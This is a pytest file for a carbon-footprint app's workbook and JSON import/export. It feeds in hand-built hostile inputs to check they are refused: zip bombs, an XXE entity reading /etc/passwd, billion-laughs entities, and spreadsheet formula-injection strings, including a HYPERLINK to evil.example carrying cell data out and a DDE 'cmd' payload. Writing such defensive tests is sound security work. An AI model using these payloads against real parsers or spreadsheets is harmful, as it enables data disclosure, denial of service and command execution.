"""Reading pcf-study/1 safely (issue 10): hostile workbooks and JSON documents are refused
quickly with a message (FormatError or Problems), never with another exception, and exports
write text as text.

The hostile workbooks are written here by hand (zipfile + XML), not by openpyxl, so that they
can lie the way an attacker's file does."""

from __future__ import annotations

import io
import json
import resource
import time
import zipfile
from xml.sax.saxutils import escape

import pytest

from footprint.services.interchange import document, reading, validation, writing
from footprint.services.interchange.document import FormatError
from footprint.services.interchange.reading import read_file, read_json, read_workbook
from tests.conftest import SEED_JSON

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"


def _cell(ref: str, value) -> str:
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(str(value))}</t></is></c>'


def sheet_xml(rows: list[list], *, dimension: str | None = None, prolog: str = "",
              extra_rows: str = "") -> str:
    """A worksheet: `rows` from row 1, columns A, B, …; `extra_rows` is appended raw."""
    body = []
    for r, row in enumerate(rows, start=1):
        cells = "".join(_cell(f"{chr(65 + c)}{r}", v) for c, v in enumerate(row) if v is not None)
        body.append(f'<row r="{r}">{cells}</row>')
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet xmlns="{MAIN_NS}">{dim}'
            f'<sheetData>{"".join(body)}{extra_rows}</sheetData></worksheet>')


def xlsx(sheets: dict[str, str], *, extra: dict[str, bytes] | None = None, level: int = 6) -> bytes:
    """A minimal .xlsx holding `sheets` (name → worksheet XML) and `extra` raw members."""
    names = list(sheets)
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/'
        f'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>' for i in range(1, len(names) + 1))
    members = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/'
            f'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>{overrides}</Types>'),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_REL_NS}">'
            f'<Relationship Id="rId1" Type="{REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><sheets>'
            + "".join(f'<sheet name="{n}" sheetId="{i}" r:id="rId{i}"/>' for i, n in enumerate(names, start=1))
            + "</sheets></workbook>"),
        "xl/_rels/workbook.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_REL_NS}">'
            + "".join(f'<Relationship Id="rId{i}" Type="{REL_NS}/worksheet" Target="worksheets/sheet{i}.xml"/>'
                      for i in range(1, len(names) + 1))
            + "</Relationships>"),
    }
    for i, name in enumerate(names, start=1):
        members[f"xl/worksheets/sheet{i}.xml"] = sheets[name]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, text in members.items():
            zf.writestr(name, text.encode("utf-8") if isinstance(text, str) else text)
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
    return out.getvalue()


STUDY_ROWS = [["field", "value"], ["format", "pcf-study/1"], ["report_number", "HOSTILE-1"],
              ["title", "t"]]


def _refused_quickly(content: bytes, match: str, *, seconds: float = 5.0) -> FormatError:
    """read_workbook refuses `content` with a message matching `match`, within `seconds`
    and without growing the process by more than 200 MB."""
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    start = time.monotonic()
    with pytest.raises(FormatError, match=match) as caught:
        read_workbook(content)
    assert time.monotonic() - start < seconds
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before) / 1024
    assert grown_mb < 200
    return caught.value


def test_a_hand_written_workbook_is_read():
    # The builder itself makes a workbook the reader accepts: the refusals below are about
    # what was added, not about a broken file.
    doc = read_workbook(xlsx({"study": sheet_xml(STUDY_ROWS), "products": sheet_xml(
        [["code", "name", "annual_output"], ["P1", "产品", 10]])}))
    assert doc.data["report_number"] == "HOSTILE-1"
    assert doc.data["products"][0]["code"] == "P1"


def test_a_dimension_claiming_a_million_rows_is_not_believed():
    # 14 KB: <dimension> claims A1:XFD1048576 and the last cell is there. Read-only openpyxl
    # padded every row to the claimed 16,384 columns and filled the gap up to row 1,048,576:
    # a worker blocked for minutes. Now the claim is ignored and rows stop at the limit.
    rows = [["code", "name", "annual_output"]] + [[f"P{i}", "产品" * 20, i] for i in range(1, 60)]
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    content = xlsx({"study": sheet_xml(STUDY_ROWS, dimension="A1:XFD1048576"),
                    "products": sheet_xml(rows, dimension="A1:XFD1048576", extra_rows=far)})
    assert len(content) < 20_000
    _refused_quickly(content, "工作表 products 超过 50,000 行")


def test_a_dimension_claim_alone_changes_nothing():
    rows = [["code", "name", "annual_output"]] + [[f"P{i}", "产品", i] for i in range(1, 60)]
    doc = read_workbook(xlsx({"study": sheet_xml(STUDY_ROWS, dimension="A1:XFD1048576"),
                              "products": sheet_xml(rows, dimension="A1:XFD1048576")}))
    assert [p["code"] for p in doc.data["products"]] == [f"P{i}" for i in range(1, 60)]


def test_a_row_numbered_past_the_row_limit_is_refused():
    far = f'<row r="1048576">{_cell("A1048576", "x")}</row>'
    content = xlsx({"study": sheet_xml(STUDY_ROWS),
                    "products": sheet_xml([["code"], ["P1"]], extra_rows=far)})
    _refused_quickly(content, "工作表 products 超过 50,000 行")


def test_a_row_wider_than_the_column_limit_is_refused():
    wide = f'<row r="3">{_cell("A3", "P2")}<c r="XFD3"><v>1</v></c></row>'
    content = xlsx({"study": sheet_xml(STUDY_ROWS),
                    "products": sheet_xml([["code"], ["P1"]], extra_rows=wide)})
    _refused_quickly(content, "工作表 products 第 3 行超过 64 列")


def test_one_huge_cell_is_refused_with_its_place():
    import random

    # 100,000 random letters compress only ~1.5×, so the archive check lets them through:
    # the cell limit (Excel's own, 32,767 characters) refuses them.
    rng = random.Random(1)
    text = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz ") for _ in range(100_000))
    content = xlsx({"study": sheet_xml([*STUDY_ROWS, ["narrative.purpose", text]])})
    _refused_quickly(content, "工作表 study 第 5 行有超过 32,767 个字符的单元格")


def _bomb(size_mb: int) -> bytes:
    """A workbook whose one sheet is `size_mb` MB of blank cells' XML, deflated to ~1/1000."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        base = xlsx({"study": sheet_xml(STUDY_ROWS)})
        with zipfile.ZipFile(io.BytesIO(base)) as src:
            for info in src.infolist():
                if info.filename != "xl/worksheets/sheet1.xml":
                    zf.writestr(info.filename, src.read(info.filename))
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(f'<worksheet xmlns="{MAIN_NS}"><sheetData>'.encode())
            chunk = b" " * 2**20
            for _ in range(size_mb):
                fh.write(chunk)
            fh.write(b"</sheetData></worksheet>")
    return out.getvalue()


def test_a_zip_bomb_is_refused_before_any_xml_is_parsed():
    # The file: 1.9 MB expanding to 430 MB of XML. This one: 300 MB in < 1 MB.
    content = _bomb(300)
    assert len(content) < 2**20
    _refused_quickly(content, "工作簿解压后过大")


def test_a_small_member_with_a_bomb_s_compression_ratio_is_refused():
    content = _bomb(8)  # under the size limits, but 8 MB from a few KB: only a bomb does that
    info = zipfile.ZipFile(io.BytesIO(content)).getinfo("xl/worksheets/sheet1.xml")
    assert info.file_size < reading.WORKBOOK_MAX_MEMBER_BYTES
    assert info.file_size > 100 * info.compress_size
    _refused_quickly(content, "压缩比上限 100 倍")


def test_too_many_files_inside_the_zip_are_refused():
    content = xlsx({"study": sheet_xml(STUDY_ROWS)},
                   extra={f"xl/media/pad{i}.bin": b"x" for i in range(200)})
    _refused_quickly(content, "内部文件")


def test_a_file_that_is_no_zip_is_a_format_error():
    with pytest.raises(FormatError, match="无法读取 Excel 工作簿"):
        read_file("study.xlsx", b"PK\x03\x04 not really a zip")


XXE = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
LAUGHS = ('<!DOCTYPE worksheet [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                    for i in range(1, 10))
          + "]>")


@pytest.mark.parametrize(("prolog", "cell"), [(XXE, "&xxe;"), (LAUGHS, "&lol9;")],
                         ids=["xxe", "billion-laughs"])
def test_xml_entities_are_refused(prolog, cell):
    rows = f'<row r="5"><c r="A5" t="inlineStr"><is><t>title</t></is></c><c r="B5" t="inlineStr"><is><t>{cell}</t></is></c></row>'
    content = xlsx({"study": sheet_xml(STUDY_ROWS, prolog=prolog, extra_rows=rows)})
    _refused_quickly(content, "DTD 或实体声明")


@pytest.mark.parametrize(("prolog", "cell"), [(XXE, "&xxe;"), (LAUGHS, "&lol9;")],
                         ids=["xxe", "billion-laughs"])
def test_openpyxl_parses_with_defusedxml_behind_the_archive_check(monkeypatch, prolog, cell):
    # Defence in depth: with the archive scan switched off, defusedxml (which openpyxl picks
    # up when it is installed) still refuses the entities, and the reader says so.
    from openpyxl.xml import DEFUSEDXML

    assert DEFUSEDXML
    monkeypatch.setattr(reading, "check_workbook_archive", lambda content: None)
    rows = f'<row r="5"><c r="A5" t="inlineStr"><is><t>title</t></is></c><c r="B5" t="inlineStr"><is><t>{cell}</t></is></c></row>'
    content = xlsx({"study": sheet_xml(STUDY_ROWS, prolog=prolog, extra_rows=rows)})
    _refused_quickly(content, "DTD 或实体声明")


def test_a_broken_sheet_is_a_format_error_not_a_crash():
    content = xlsx({"study": f'<worksheet xmlns="{MAIN_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr">'})
    _refused_quickly(content, "无法读取 Excel 工作簿")


# ------------------------------------------------------------------------------------ JSON
def test_deeply_nested_json_is_a_format_error():
    content = "[" * 100_000 + "]" * 100_000  # RecursionError in json.loads: answered 500
    with pytest.raises(FormatError, match="嵌套过深"):
        read_json(content)


def test_an_integer_of_thousands_of_digits_is_a_format_error():
    content = '{"format": "pcf-study/1", "revision": %s}' % ("9" * 5000)
    with pytest.raises(FormatError, match="不是有效的 JSON"):
        read_json(content)


@pytest.mark.django_db
def test_numbers_too_large_for_their_column_are_problems_not_database_errors(reference_data):
    from footprint.services.interchange.importing import preview_document

    doc = json.loads(SEED_JSON.read_text(encoding="utf-8"))
    activity = doc["products"][0]["activities"][0]
    activity["quantity"] = int("9" * 4000)  # under Python's 4,300-digit limit
    activity["uncertainty_pct"] = 123456
    doc["factors"][0]["year"] = 10**12
    preview = preview_document(read_json(json.dumps(doc)))
    messages = [str(p) for p in preview.problems]
    assert not preview.ok
    assert any("quantity" in m and "整数部分最多 19 位" in m for m in messages)
    assert any("uncertainty_pct" in m and "整数部分最多 4 位" in m for m in messages)
    assert any("year" in m and "不能大于 2147483647" in m for m in messages)


@pytest.mark.django_db
@pytest.mark.parametrize("unit", ["kg**9**9**9", "kWh("])
def test_an_imported_unit_that_is_no_unit_is_a_problem_with_its_place(reference_data, unit):
    from footprint.services.interchange.importing import preview_document

    doc = json.loads(SEED_JSON.read_text(encoding="utf-8"))
    doc["products"][0]["activities"][0]["unit"] = unit
    doc["factors"][0]["unit"] = unit
    start = time.monotonic()
    preview = preview_document(read_json(json.dumps(doc)))
    assert time.monotonic() - start < 5
    messages = [str(p) for p in preview.problems]
    assert f"products[0].activities[0].unit: 无法识别的单位 {unit}：" in "\n".join(messages)
    assert f"factors[0].unit: 无法识别的单位 {unit}：" in "\n".join(messages)


# ------------------------------------------------------------------------------ exports
HOSTILE_TEXTS = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "source": "=cmd|' /C calc'!A0",
    "notes": "+1+1",
    "purpose": "-2-3",
    "title": "@SUM(1,2)",
}


def _hostile_document() -> dict:
    doc = json.loads(SEED_JSON.read_text(encoding="utf-8"))
    activity = doc["products"][0]["activities"][0]
    for key in ("name", "source", "notes"):
        activity[key] = HOSTILE_TEXTS[key]
    doc["narrative"]["purpose"] = HOSTILE_TEXTS["purpose"]
    doc["title"] = HOSTILE_TEXTS["title"]
    return doc


def test_text_that_looks_like_a_formula_is_written_as_text():
    content = writing.write_workbook(_hostile_document())
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        sheets = {n: zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/")}
        styles = zf.read("xl/styles.xml").decode()
    xml = "".join(sheets.values())
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere: Excel evaluates none
    assert 'quotePrefix="1"' in styles  # and editing the cell keeps it text
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(content))  # not read-only: cell types and styles
    cells = {c.value: c for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str)}
    for text in HOSTILE_TEXTS.values():
        assert cells[text].data_type == "s", text
        assert cells[text].quotePrefix, text
    assert not cells["kWh"].quotePrefix  # ordinary text is left as it was
    numbers = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
               if isinstance(c.value, int | float) and not isinstance(c.value, bool)]
    assert numbers and all(c.data_type == "n" for c in numbers)


@pytest.mark.django_db
def test_formula_like_text_survives_the_round_trip_exactly(reference_data):
    from footprint.services.interchange.document import Document
    from footprint.services.interchange.exporting import study_to_document
    from footprint.services.interchange.importing import import_file, import_study

    study = import_study(Document(_hostile_document()))
    first = study_to_document(study, for_licensee=True)
    content = writing.write_workbook(first)
    study.delete()
    again = study_to_document(import_file("again.xlsx", content), for_licensee=True)
    assert again == first
    activity = again["products"][0]["activities"][0]
    assert activity["name"] == HOSTILE_TEXTS["name"] and activity["source"] == HOSTILE_TEXTS["source"]
    assert activity["notes"] == "+1+1" and again["narrative"]["purpose"] == "-2-3"
    assert again["title"] == "@SUM(1,2)"


# ------------------------------------------------------------------------------ fuzzing
# Whatever a document holds, reading and validating it gives FormatError or a list of
# Problems, never another exception (each other exception was a 500 on the import page).
from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from footprint.services.interchange.validation import validate_document  # noqa: E402

_SCALARS = st.one_of(
    st.none(), st.booleans(), st.integers(min_value=-(10**40), max_value=10**40),
    st.floats(allow_nan=False, allow_infinity=False), st.text(max_size=30),
    st.sampled_from(["kWh", "kg**9**9**9", "kWh(", "=1+1", "2021-13-45", "1e999", "-0", "NaN",
                     "CN-GRID-2022", "pcf-study/1", "production", "annual_total"]),
)
_VALUES = st.recursive(
    _SCALARS,
    lambda children: st.one_of(st.lists(children, max_size=4),
                               st.dictionaries(st.text(max_size=12), children, max_size=4)),
    max_leaves=12,
)


def _seed() -> dict:
    return json.loads(SEED_JSON.read_text(encoding="utf-8"))


def _paths(value, prefix=()):
    yield prefix
    if isinstance(value, dict):
        for key, child in value.items():
            yield from _paths(child, (*prefix, key))
    elif isinstance(value, list):
        for index, child in enumerate(value):
            yield from _paths(child, (*prefix, index))


_SEED_PATHS = [p for p in _paths(_seed()) if p]


@st.composite
def mutated_documents(draw):
    """The seed document with a few values replaced by anything at all."""
    doc = _seed()
    for path in draw(st.lists(st.sampled_from(_SEED_PATHS), min_size=1, max_size=4)):
        target = doc
        try:
            for part in path[:-1]:
                target = target[part]
            target[path[-1]] = draw(_VALUES)
        except (KeyError, IndexError, TypeError):
            continue  # an earlier replacement removed this path
    return doc


def _must_be_handled(read):
    try:
        doc = read()
    except FormatError:
        return
    clean, problems = validate_document(doc, {})
    assert (clean is None) == bool(problems)  # a clean study, or the reasons it is not one
    assert all(isinstance(p.message, str) and p.message for p in problems)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutated_documents())
def test_fuzzed_json_documents_give_problems_not_exceptions(doc):
    _must_be_handled(lambda: read_json(json.dumps(doc)))


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_VALUES)
def test_fuzzed_json_of_any_shape_gives_problems_not_exceptions(value):
    _must_be_handled(lambda: read_json(json.dumps(value)))


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.dictionaries(
    st.sampled_from(["study", "factors", "products", "stages", "activities", "team", "translations", "x"]),
    st.lists(st.lists(_SCALARS.filter(lambda v: not isinstance(v, list | dict)), max_size=6), max_size=6),
    min_size=1, max_size=4))
def test_fuzzed_workbooks_give_problems_not_exceptions(sheets):
    header = {"study": [["field", "value"]], "products": [list(document.PRODUCT_COLUMNS)],
              "activities": [list(document.ACTIVITY_COLUMNS)]}
    content = xlsx({name: sheet_xml(header.get(name, []) + rows) for name, rows in sheets.items()})
    _must_be_handled(lambda: read_workbook(content))


@pytest.mark.parametrize("value", [True, 3, "阶段", {"stage": "production"}])
def test_stages_or_activities_that_are_no_list_are_a_problem(value):
    # Found by the fuzzing above: `"stages": true` raised TypeError (a 500 on the import page).
    doc = _seed()
    doc["products"][0]["stages"] = value
    doc["products"][1]["activities"] = value
    clean, problems = validate_document(read_json(json.dumps(doc)), {})
    messages = [str(p) for p in problems]
    assert clean is None
    assert "products[0].stages: 应为列表。" in messages
    assert "products[1].activities: 应为列表。" in messages


# ----------------------------------------------------------- reading and validating the format
import copy  # noqa: E402
from decimal import Decimal  # noqa: E402

from django.utils import translation  # noqa: E402

from footprint.services.interchange.document import Document  # noqa: E402
from footprint.services.interchange.reading import PrintedNumber, written_decimals  # noqa: E402
from footprint.services.interchange.writing import plain_number  # noqa: E402


def _seed_document() -> Document:
    return read_json(SEED_JSON.read_bytes())


def test_a_json_number_keeps_the_decimals_it_was_written_with():
    doc = read_json(b'{"format": "pcf-study/1", "a": 0.5500, "b": 24.160, "c": 3, "d": 1e3}')
    assert doc.data["a"] == 0.55 and isinstance(doc.data["a"], PrintedNumber)
    assert [written_decimals(doc.data[k]) for k in "abc"] == [4, 3, 0]
    assert written_decimals("1,234.50") == 2  # an xlsx text cell
    assert written_decimals(0.25) == 2 and written_decimals(True) is None and written_decimals(None) is None


@pytest.mark.parametrize(("value", "plain"), [
    (Decimal("281683.000000"), 281683), (Decimal("0.53660"), 0.5366), (2.0, 2), (0.25, 0.25),
    (None, None), (Decimal("1E+3"), 1000),
])
def test_plain_numbers_drop_trailing_zeros(value, plain):
    assert plain_number(value) == plain and type(plain_number(value)) is type(plain)


def test_a_json_location_is_a_path():
    doc = Document({})
    assert doc.where("products", 0, "activities", 1, "quantity") == "products[0].activities[1].quantity"
    assert doc.where("format") == "format"


def test_the_seed_document_validates_into_its_clean_study():
    clean, problems = validate_document(_seed_document(), {})
    assert problems == []
    assert clean.study["report_number"] == "202508175GHG" and clean.study["gwp_set"] == "AR5"
    assert [p.code for p in clean.products] == ["LV", "HV"]
    assert [p.annual_output for p in clean.products] == [Decimal(281683), Decimal(84)]
    assert clean.activity_count == 10
    assert [(f.code, f.version) for f in clean.factors] == [("CN-GRID-2022", None), ("CN-DIESEL", None)]
    first = clean.products[0].activities[0]
    assert first.stage == "raw_material_acquisition" and first.factor_ref == ("CN-GRID-2022", None)
    # numbers become Decimals exactly as written, not through a float
    assert first.fields["quantity"] == Decimal("94594493.664")
    assert first.fields["claimed_kgco2e_per_unit"] == Decimal("186.984")
    assert first.location == "products[0].activities[0]"


@pytest.mark.parametrize(("change", "problem"), [
    (lambda d: d.pop("report_number"), "report_number: Required."),
    (lambda d: d.__setitem__("format", "pcf-study/2"), "format: Must be pcf-study/1 (is pcf-study/2)."),
    (lambda d: d.__setitem__("gwp_set", "AR7"), "gwp_set: Invalid value AR7; allowed: AR4 (IPCC Fourth Assessment Report (AR4, 2007)), "
     "AR5 (IPCC Fifth Assessment Report (AR5, 2013)), AR6 (IPCC Sixth Assessment Report (AR6, 2021))."),
    (lambda d: d["factors"][0].__setitem__("gas", "XE"),
     "factors[0].gas: Invalid value XE; allowed: CO2e, CO2, CH4, N2O, SF6, NF3, CF4, HFC-134a."),
    (lambda d: d["products"][0]["activities"][1].__setitem__("stage", "mining"),
     "products[0].activities[1].stage: Invalid value mining; allowed: raw_material_acquisition "
     "(Raw material acquisition), raw_material_transport (Raw material transport), production "
     "(Production), distribution (Distribution), use (Use), end_of_life (End-of-life)."),
    (lambda d: d["products"][0]["activities"][1].__setitem__("allocation", 1.5),
     "products[0].activities[1].allocation: Cannot be greater than 1 (is 1.5)."),
    (lambda d: d["products"][0]["activities"][0].__setitem__("basis", "weekly"),
     "products[0].activities[0].basis: Invalid value weekly; allowed: annual_total (Period total), "
     "per_unit (Per functional unit)."),
    (lambda d: d["products"][0]["activities"][0].__setitem__("factor", "NOPE-1"),
     "products[0].activities[0].factor: Emission factor NOPE-1 is neither defined in the file "
     "nor in the factor library."),
])
def test_each_broken_field_is_one_problem_at_its_place(change, problem):
    data = copy.deepcopy(_seed_document().data)
    change(data)
    with translation.override("en"):
        clean, problems = validate_document(Document(data), {})
        assert clean is None
        assert [str(p) for p in problems] == [problem]


def test_a_library_factor_may_be_referred_to_by_code():
    data = copy.deepcopy(_seed_document().data)
    data["products"][0]["activities"][0]["factor"] = "LIB-GRID"
    library = {"LIB-GRID": validation.LibraryFactor("LIB-GRID", 3, "kg/kWh", 0.6)}
    clean, problems = validate_document(Document(data), library)
    assert problems == [] and clean.products[0].activities[0].factor_ref[0] == "LIB-GRID"


# ---------------------------------------------------- the JSON Schema of docs/study-format.md
from pathlib import Path  # noqa: E402

import jsonschema  # noqa: E402

SCHEMA_PATH = Path(__file__).resolve().parents[3] / "docs" / "pcf-study-1.schema.json"


@pytest.fixture(scope="module")
def schema_validator():
    schema = json.loads(SCHEMA_PATH.read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator.check_schema(schema)
    return jsonschema.Draft202012Validator(schema)


def _errors(validator, document) -> list[str]:
    return sorted(f"{'/'.join(str(p) for p in e.absolute_path)}: {e.validator}"
                  for e in validator.iter_errors(document))


@pytest.mark.parametrize("name", ["202508175GHG.json", "DEMO-2.json"])
def test_both_demo_fixtures_follow_the_schema(schema_validator, name):
    document = json.loads((SEED_JSON.parent / name).read_text(encoding="utf-8"))
    assert _errors(schema_validator, document) == []


def test_an_export_follows_the_schema(schema_validator, seed_study):
    from footprint.services.interchange.exporting import study_to_json

    assert _errors(schema_validator, json.loads(study_to_json(seed_study, for_licensee=True))) == []


@pytest.mark.parametrize(("change", "error"), [
    (lambda d: d.pop("report_number"), ": required"),
    (lambda d: d.__setitem__("format", "pcf-study/2"), "format: const"),
    (lambda d: d["products"][0]["activities"][1].__setitem__("stage", "mining"),
     "products/0/activities/1/stage: enum"),
    (lambda d: d["products"][0]["activities"][1].__setitem__("allocation", 1.5),
     "products/0/activities/1/allocation: maximum"),
    (lambda d: d["factors"][0].pop("value"), "factors/0: oneOf"),  # neither value nor derived_from
    (lambda d: d["narrative"].__setitem__("preface", "…"), "narrative: enum"),
    (lambda d: d["claims"][0].pop("stage"), "claims/0: required"),  # a stage claim names its stage
    (lambda d: d["claims"][0].__setitem__("value", "ten"), "claims/0/value: oneOf"),
])
def test_the_schema_refuses_what_the_format_forbids(schema_validator, change, error):
    document = json.loads(SEED_JSON.read_text(encoding="utf-8"))
    change(document)
    assert error in _errors(schema_validator, document)
    # ... and so does the importer: the schema is not looser or stricter on these
    clean, problems = validate_document(Document(document), {})
    assert clean is None and problems


def test_the_schema_allows_the_values_the_application_allows(schema_validator):
    from footprint.choices import (
        NARRATIVE_KEYS,
        NARRATIVE_SECTIONS,
        Basis,
        Boundary,
        DataType,
        Gas,
        GwpSet,
        Language,
        Stage,
    )

    schema = schema_validator.schema
    defs, props = schema["$defs"], schema["properties"]
    assert defs["stage"]["enum"] == Stage.values
    assert defs["gas"]["enum"] == Gas.values
    assert props["gwp_set"]["enum"] == GwpSet.values and props["boundary"]["enum"] == Boundary.values
    assert props["language"]["enum"] == Language.values
    assert defs["activity"]["properties"]["basis"]["enum"] == Basis.values
    assert defs["activity"]["properties"]["data_type"]["enum"] == DataType.values
    assert props["narrative"]["propertyNames"]["enum"] == list(NARRATIVE_SECTIONS)
    assert set(NARRATIVE_KEYS) < set(NARRATIVE_SECTIONS)


def test_problems_name_stages_and_data_types_in_the_ui_language_not_only_by_code():
    data = copy.deepcopy(_seed_document().data)
    stages = data["products"][0]["stages"]
    stages.append(copy.deepcopy(stages[0]))  # the same stage twice
    data["products"][0]["activities"][0]["data_type"] = "guessed"
    with translation.override("zh-hans"):
        _, problems = validate_document(Document(data), {})
        messages = [str(p) for p in problems]
    assert messages == [
        f"products[0].stages[{len(stages) - 1}].stage: 阶段 raw_material_acquisition（原材料获取） 重复。",
        "products[0].activities[0].data_type: 无效的值 guessed，可选：primary（初级数据）, secondary（次级数据）。"]
